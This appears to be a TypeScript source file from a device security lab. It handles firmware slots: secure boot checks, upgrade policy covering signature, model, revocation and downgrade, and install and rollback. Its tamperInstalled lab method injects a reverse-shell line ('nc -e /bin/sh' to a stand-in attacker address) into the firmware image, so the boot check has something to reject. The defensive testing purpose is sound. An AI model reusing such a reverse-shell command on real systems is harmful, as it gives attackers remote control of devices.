// Installed OS image handling: secure boot check, upgrade policy (signed, same model, not revoked,
// no downgrade without hard factory default), commit / rollback. Files live in <stateDir>/os/.
import fs from "node:fs";
import path from "node:path";
import { checkFirmware, compareVersions, tamperFirmware, type FirmwareHeader } from "../../shared/firmware-format";

export class SecureBootError extends Error {}
export type UpgradeError = { code: 409 | 410 | 413 | 415 | 421 | 422; message: string };

export class FirmwareSlots {
  readonly dir: string;
  active!: FirmwareHeader;
  constructor(
    stateDir: string,
    private factoryDir: string,
    private vendorRootPem: string,
  ) {
    this.dir = path.join(stateDir, "os");
  }
  get activeFile() {
    return path.join(this.dir, "active.cwfw");
  }
  get previousFile() {
    return path.join(this.dir, "previous.cwfw");
  }
  revoked(): string[] {
    try {
      return JSON.parse(fs.readFileSync(path.join(this.factoryDir, "revoked.json"), "utf8")).versions ?? [];
    } catch {
      return [];
    }
  }
  /** Lab scenario (robbed truck): someone rewrote the OS image in flash, keeping the vendor's signature block. */
  tamperInstalled(): void {
    if (!fs.existsSync(this.activeFile)) {
      fs.mkdirSync(this.dir, { recursive: true });
      fs.copyFileSync(path.join(this.factoryDir, "firmware.cwfw"), this.activeFile);
    }
    const image = tamperFirmware(fs.readFileSync(this.activeFile), (p) =>
      Buffer.concat([p, Buffer.from("\n#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n")]),
    );
    fs.writeFileSync(this.activeFile, image);
  }
  /** Installs the factory image on first boot; then verifies the active image like a secure-boot ROM would. */
  boot(model: string): FirmwareHeader {
    if (!fs.existsSync(this.activeFile)) {
      fs.mkdirSync(this.dir, { recursive: true });
      fs.copyFileSync(path.join(this.factoryDir, "firmware.cwfw"), this.activeFile);
    }
    const check = checkFirmware(fs.readFileSync(this.activeFile), this.vendorRootPem);
    if (check.status !== "ok") throw new SecureBootError(`installed OS image rejected (${check.status}): ${check.reason}`);
    if (check.header.model !== model) throw new SecureBootError(`installed OS image is for ${check.header.model}, this device is ${model}`);
    this.active = check.header;
    return check.header;
  }
  inactiveVersion(): string | null {
    try {
      const check = checkFirmware(fs.readFileSync(this.previousFile), this.vendorRootPem);
      return check.status === "ok" ? check.header.version : null;
    } catch {
      return null;
    }
  }
  /** Policy checks in the order a vendor documents them; returns the header to install or an error. */
  vet(image: Buffer, model: string, factoryDefaultMode: string): { header: FirmwareHeader } | UpgradeError {
    const check = checkFirmware(image, this.vendorRootPem);
    if (check.status === "corrupt") return { code: 415, message: `Corrupt firmware image: ${check.reason}.` };
    if (check.status === "unsigned") return { code: 422, message: "Firmware image is not signed by the vendor." };
    if (check.status !== "ok") return { code: 422, message: `Firmware signature verification failed: ${check.reason}.` };
    const { header } = check;
    if (header.model !== model) return { code: 421, message: `Firmware is for ${header.model}, this device is ${model}.` };
    if (this.revoked().includes(header.version))
      return { code: 410, message: `Firmware ${header.version} has been revoked by the vendor.` };
    if (compareVersions(header.version, this.active.version) < 0 && factoryDefaultMode !== "hard") {
      return { code: 409, message: `Downgrade from ${this.active.version} to ${header.version} requires factoryDefaultMode=hard.` };
    }
    return { header };
  }
  install(image: Buffer, header: FirmwareHeader): void {
    fs.copyFileSync(this.activeFile, this.previousFile);
    writeAtomic(this.activeFile, image);
    this.active = header;
  }
  /** Swaps active and previous; false when there is nothing to roll back to. */
  rollback(): boolean {
    if (!fs.existsSync(this.previousFile)) return false;
    const tmp = path.join(this.dir, "swap.cwfw");
    fs.renameSync(this.activeFile, tmp);
    fs.renameSync(this.previousFile, this.activeFile);
    fs.renameSync(tmp, this.previousFile);
    const check = checkFirmware(fs.readFileSync(this.activeFile), this.vendorRootPem);
    if (check.status === "ok") this.active = check.header;
    return true;
  }
}

function writeAtomic(file: string, data: Buffer) {
  fs.writeFileSync(`${file}.tmp`, data);
  fs.renameSync(`${file}.tmp`, file);
}
